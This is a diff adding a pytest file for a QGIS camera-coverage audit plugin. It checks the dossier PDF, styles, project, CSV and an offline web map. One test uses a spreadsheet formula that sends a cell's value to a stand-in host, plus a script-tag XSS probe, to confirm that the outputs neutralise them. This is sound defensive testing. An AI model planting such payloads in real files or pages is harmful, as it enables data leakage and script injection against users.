@@ -1,0 +1,327 @@
+"""The sample town's dossier, checked from the outside: the PDF's pages
+(pdfinfo), their pixels (pdftoppm), their text (pdftotext) against the
+layers; the styles each output carries; the project; the CSV and HTML
+with hostile text. Expected figures come from the layers or from QGIS's
+own geometry engine, never from the dossier code."""
+
+import csv
+import re
+import shutil
+import subprocess
+from xml.etree import ElementTree
+
+import pytest
+from qgis.core import (
+    QgsGeometry,
+    QgsProcessingContext,
+    QgsProcessingFeedback,
+    QgsProject,
+    QgsVectorLayer,
+)
+from qgis.PyQt.QtGui import QColor, QImage
+
+from camera_coverage.core.messages import number
+from camera_coverage.dossier.styles import StyleOnLoad, present_outputs, style_path
+from tests.conftest import SAMPLE_TOWN
+from tests.qgis.layers import X0, Y0, camera_layer, parcel_layer
+
+POPPLER = shutil.which("pdfinfo") and shutil.which("pdftoppm") and shutil.which("pdftotext")
+needs_poppler = pytest.mark.skipif(not POPPLER, reason="poppler-utils not installed")
+OUTPUTS = ("cameras", "coverage", "pieces", "dori", "rejected")
+
+
+@pytest.fixture(scope="module")
+def town(plugin, tmp_path_factory):
+    import processing
+
+    folder = tmp_path_factory.mktemp("town")
+    parameters = {
+        "CAMERAS": str(SAMPLE_TOWN / "cameras.geojson"),
+        "PARCELS": str(SAMPLE_TOWN / "parcels.geojson"),
+        "BUILDINGS": str(SAMPLE_TOWN / "buildings.geojson"),
+        "PUBLIC_EXPRESSION": '"owner_group" IN (1, 2, 3, 4, 9)',
+        "TOLERANCE_M2": 1,
+        "POPULATION": 2500,
+        "OUTPUT_FIGURES": str(folder / "figures.gpkg"),
+        "OUTPUT_DOSSIER": str(folder / "dossier"),
+    }
+    for name in OUTPUTS:
+        parameters[f"OUTPUT_{name.upper()}"] = str(folder / f"{name}.gpkg")
+    results = processing.run("camera_coverage:coverageaudit", parameters)
+    # Plain values: no layer kept open across tests.
+    layer = QgsVectorLayer(results["OUTPUT_CAMERAS"], "cameras", "ogr")
+    names = layer.fields().names()
+    cameras = [dict(zip(names, f.attributes())) for f in layer.getFeatures()]
+    del layer
+    flagged = [c for c in cameras if c["masking_required"]]
+    return results, folder / "dossier", cameras, flagged
+
+
+def pdf_text(path, page=None):
+    pages = ["-f", str(page), "-l", str(page)] if page else []
+    return subprocess.run(
+        ["pdftotext", "-layout", *pages, str(path), "-"],
+        capture_output=True,
+        text=True,
+        check=True,
+    ).stdout
+
+
+def test_the_dossier_folder_holds_the_five_files(town):
+    _, dossier, _, _ = town
+    for name in ("dossier.pdf", "report.html", "map.html", "project.qgz", "cameras.csv"):
+        assert (dossier / name).stat().st_size > 1000, name
+
+
+@needs_poppler
+def test_pdf_has_cover_overview_one_page_per_flagged_camera_and_assumptions(town):
+    _, dossier, _, flagged = town
+    info = subprocess.run(
+        ["pdfinfo", str(dossier / "dossier.pdf")], capture_output=True, text=True, check=True
+    ).stdout
+    pages = int(re.search(r"Pages:\s+(\d+)", info).group(1))
+    assert len(flagged) > 0
+    assert pages == 1 + 1 + len(flagged) + 1
+    # Each camera page is headed by its camera, in the layer's order.
+    for offset, feature in enumerate(flagged):
+        assert f"Camera {feature['camera_id']}" in pdf_text(dossier / "dossier.pdf", 3 + offset)
+
+
+def colour_counts(png):
+    """Pixels that are white, clearly red (private land, flagged cameras)
+    and clearly blue (public domain, views): hue tests, since the fills
+    are translucent and blend with what lies under them."""
+    image = QImage(str(png))
+    white = red = blue = 0
+    for y in range(0, image.height(), 2):
+        for x in range(0, image.width(), 2):
+            c = QColor(image.pixel(x, y))
+            r, g, b = c.red(), c.green(), c.blue()
+            if r > 245 and g > 245 and b > 245:
+                white += 1
+            elif r > g + 70 and r > b + 70:
+                red += 1
+            elif b > r + 50 and b > g + 10:
+                blue += 1
+    total = ((image.width() + 1) // 2) * ((image.height() + 1) // 2)
+    return white / total, red / total, blue / total
+
+
+@needs_poppler
+def test_pages_are_not_blank_and_maps_show_the_coverage_colours(town, tmp_path):
+    _, dossier, _, flagged = town
+    subprocess.run(
+        ["pdftoppm", "-r", "30", "-png", str(dossier / "dossier.pdf"), str(tmp_path / "p")],
+        check=True,
+    )
+    pages = sorted(tmp_path.glob("p-*.png"))
+    assert len(pages) == 3 + len(flagged)
+    for page in pages:
+        white, _, _ = colour_counts(page)
+        assert white < 0.97, page.name
+    # Overview and the first flagged camera's page: public (blue) and private (red).
+    for page in pages[1:3]:
+        _, red, blue = colour_counts(page)
+        assert red > 0.002 and blue > 0.01, (page.name, red, blue)
+
+
+@needs_poppler
+def test_numbers_printed_equal_those_in_the_layers(town):
+    results, dossier, cameras, flagged = town
+    cover = pdf_text(dossier / "dossier.pdf", 1)
+    assert re.search(rf"Cameras audited: {len(cameras)}\b", cover)
+    assert re.search(rf"Cameras whose view must be masked: {len(flagged)}\b", cover)
+    figures = QgsVectorLayer(results["OUTPUT_FIGURES"], "figures", "ogr")
+    by_code = {f["code"]: f for f in figures.getFeatures()}
+    # Cameras per 1,000 inhabitants, from the population given.
+    assert by_code["cameras_per_1000"]["value"] == pytest.approx(30 / 2500 * 1000)
+    assert re.search(r"Cameras per 1,000 inhabitants: 12(\.0)?\s", cover)
+    # Cost: 30 cameras at the default 37,500 € and 7,500 € a year.
+    assert "1,125,000 €" in cover and "225,000 €" in cover
+    for offset, feature in enumerate(flagged):
+        text = pdf_text(dossier / "dossier.pdf", 3 + offset)
+        for field in ("covered_m2", "public_m2", "private_m2"):
+            assert f"{number(feature[field], 'en', 1)} m²" in text, (feature["camera_id"], field)
+
+
+def test_public_domain_share_agrees_with_qgis_geometry_engine(town):
+    """Second method: union of the coverage, the parcels' hull minus the
+    private parcels, intersected with QgsGeometry (GEOS through QGIS)."""
+    results, _, _, _ = town
+    coverage = QgsVectorLayer(results["OUTPUT_COVERAGE"], "coverage", "ogr")
+    parcels = QgsVectorLayer(str(SAMPLE_TOWN / "parcels.geojson"), "parcels", "ogr")
+    public_groups = {1, 2, 3, 4, 9}
+    hull = QgsGeometry.unaryUnion([f.geometry() for f in parcels.getFeatures()]).convexHull()
+    private = QgsGeometry.unaryUnion(
+        [f.geometry() for f in parcels.getFeatures() if f["owner_group"] not in public_groups]
+    )
+    public = hull.difference(private)
+    seen = QgsGeometry.unaryUnion([f.geometry() for f in coverage.getFeatures()])
+    expected = 100 * seen.intersection(public).area() / public.area()
+    figures = QgsVectorLayer(results["OUTPUT_FIGURES"], "figures", "ogr")
+    share = next(f["value"] for f in figures.getFeatures() if f["code"] == "public_seen_pct")
+    assert share == pytest.approx(expected, rel=1e-3)
+
+
+def test_each_output_layer_opens_with_the_shipped_renderer(town):
+    results, dossier, _, _ = town
+    for name in OUTPUTS:
+        layer = QgsVectorLayer(results[f"OUTPUT_{name.upper()}"], name, "ogr")
+        assert layer.isValid(), name
+        shipped = ElementTree.parse(style_path(name)).getroot()
+        assert layer.renderer().type() == "RuleRenderer", name
+        labels = [r.label() for r in layer.renderer().rootRule().children()]
+        assert labels == [r.get("label") for r in shipped.find("renderer-v2/rules")], name
+    project = QgsProject()
+    assert project.read(str(dossier / "project.qgz"))
+    layers = project.mapLayers().values()
+    assert layers and all(layer.isValid() for layer in layers)
+    assert all(layer.renderer().type() == "RuleRenderer" for layer in layers)
+    layout = project.layoutManager().layouts()[0]
+    assert layout.pageCollection().pageCount() == 3 + len(town[3])
+
+
+def test_layers_loaded_by_qgis_get_their_style_and_an_empty_rejected_is_not_loaded():
+    context = QgsProcessingContext()
+    feedback = QgsProcessingFeedback()
+    cameras = camera_layer([(X0, Y0, "A", 0.0, 60.0, 20.0)])
+    rejected = camera_layer([])
+    project = QgsProject()
+    for layer in (cameras, rejected):
+        context.temporaryLayerStore().addMapLayer(layer)
+        context.addLayerToLoadOnCompletion(
+            layer.id(), QgsProcessingContext.LayerDetails(layer.name(), project, "out")
+        )
+    present_outputs(
+        context,
+        [(cameras.id(), "cameras"), (rejected.id(), "rejected")],
+        "fr",
+        empty=(rejected.id(),),
+    )
+    assert rejected.id() not in context.layersToLoadOnCompletion()
+    details = context.layerToLoadOnCompletionDetails(cameras.id())
+    assert isinstance(details.postProcessor(), StyleOnLoad)
+    project.addMapLayer(cameras)
+    details.postProcessor().postProcessLayer(cameras, context, feedback)
+    labels = [r.label() for r in cameras.renderer().rootRule().children()]
+    assert labels == ["Masquage requis", "Pas de masquage requis"]
+
+
+HOSTILE = '=HYPERLINK("http://x.example/?"&A1;"clic")'
+SCRIPT = "<script>alert(1)</script>"
+NON_ASCII = "Caméra « Hôtel-de-Ville » Ω"
+
+
+def test_hostile_text_stays_inert_and_intact(plugin, tmp_path):
+    import processing
+
+    cameras = camera_layer(
+        [
+            (X0 + 30, Y0 + 15, HOSTILE, 0.0, 90.0, 30.0),
+            (X0 + 60, Y0 + 15, SCRIPT, 0.0, 90.0, 30.0),
+            (X0 + 90, Y0 + 15, NON_ASCII, 0.0, 90.0, 30.0),
+        ]
+    )
+    # Private parcels north of the cameras: all three are flagged.
+    parcels = parcel_layer(
+        [
+            (
+                "P1",
+                None,
+                f"POLYGON(({X0} {Y0 + 30},{X0 + 120} {Y0 + 30},{X0 + 120} {Y0 + 60},"
+                f"{X0} {Y0 + 60},{X0} {Y0 + 30}))",
+            ),
+        ]
+    )
+    processing.run(
+        "camera_coverage:coverageaudit",
+        {
+            "CAMERAS": cameras,
+            "PARCELS": parcels,
+            "OUTPUT_CAMERAS": "memory:",
+            "OUTPUT_COVERAGE": "memory:",
+            "OUTPUT_PIECES": "memory:",
+            "OUTPUT_DOSSIER": str(tmp_path),
+        },
+    )
+    raw = (tmp_path / "cameras.csv").read_bytes()
+    assert raw.startswith(b"\xef\xbb\xbf")
+    with open(tmp_path / "cameras.csv", encoding="utf-8-sig", newline="") as stream:
+        rows = list(csv.DictReader(stream, delimiter=";"))
+    ids = [row["camera_id"] for row in rows]
+    assert ids == ["'" + HOSTILE, SCRIPT, NON_ASCII]
+    for name in ("report.html", "map.html"):
+        html = (tmp_path / name).read_text(encoding="utf-8")
+        assert SCRIPT not in html, name
+        assert "alert(1)" in html, name  # kept, as escaped text
+    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in (tmp_path / "report.html").read_text(
+        encoding="utf-8"
+    )
+    if POPPLER:
+        text = pdf_text(tmp_path / "dossier.pdf")
+        for camera_id in (HOSTILE, SCRIPT, NON_ASCII):
+            assert camera_id in text
+
+
+CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser")
+OFFLINE = [
+    "--headless",
+    "--no-sandbox",
+    "--disable-gpu",
+    "--hide-scrollbars",
+    # No network: every request goes to a closed local port.
+    "--proxy-server=http://127.0.0.1:9",
+    "--proxy-bypass-list=<-loopback>",
+    "--virtual-time-budget=3000",
+    "--window-size=1000,700",
+]
+CLICK = """<script>
+window.addEventListener('load', function () {
+  var dot = document.querySelector('#marks circle'), box = dot.getBoundingClientRect();
+  var x = box.left + box.width / 2, y = box.top + box.height / 2;
+  var hit = document.elementFromPoint(x, y);
+  hit.dispatchEvent(new MouseEvent('click', {bubbles: true, clientX: x, clientY: y}));
+  var popup = document.getElementById('popup');
+  document.body.setAttribute('data-popup', popup.hidden ? 'hidden' : 'shown');
+  document.body.setAttribute('data-popup-title', popup.querySelector('h3').textContent);
+});
+</script></body>"""
+
+
+def chromium(*args):
+    return subprocess.run([CHROMIUM, *OFFLINE, *args], capture_output=True, text=True, timeout=120)
+
+
+@pytest.mark.skipif(not CHROMIUM, reason="chromium not installed")
+def test_web_map_renders_offline_with_markers_coverage_and_a_popup(town, tmp_path):
+    _, dossier, cameras, flagged = town
+    page = dossier / "map.html"
+    html = page.read_text(encoding="utf-8")
+    # Nothing is fetched: no external script, style or image in the page.
+    assert not re.search(r"<(script|link|img)[^>]+(src|href)=", html)
+    shot = tmp_path / "map.png"
+    run = chromium(f"--screenshot={shot}", page.as_uri())
+    assert shot.exists(), run.stderr
+    image = QImage(str(shot))
+    flagged_dots = clear_dots = private = public = 0
+    for y in range(0, image.height(), 2):
+        for x in range(0, image.width(), 2):
+            c = QColor(image.pixel(x, y))
+            rgb = (c.red(), c.green(), c.blue())
+            if rgb == (0xC5, 0x1B, 0x1B):
+                flagged_dots += 1
+            elif rgb == (0x1F, 0x5F, 0xA8):
+                clear_dots += 1
+            elif c.red() > c.green() + 70 and c.red() > c.blue() + 70:
+                private += 1
+            elif c.blue() > c.red() + 50:
+                public += 1
+    assert flagged_dots > 10 * len(flagged) // 4 and clear_dots > 10
+    assert private > 500 and public > 500
+    # A click where the first camera is drawn opens its popup.
+    clicking = tmp_path / "click.html"
+    clicking.write_text(html.replace("</body>", CLICK), encoding="utf-8")
+    dom = chromium("--dump-dom", clicking.as_uri()).stdout
+    first = cameras[0]["camera_id"]
+    assert 'data-popup="shown"' in dom
+    assert f'data-popup-title="{first}"' in dom
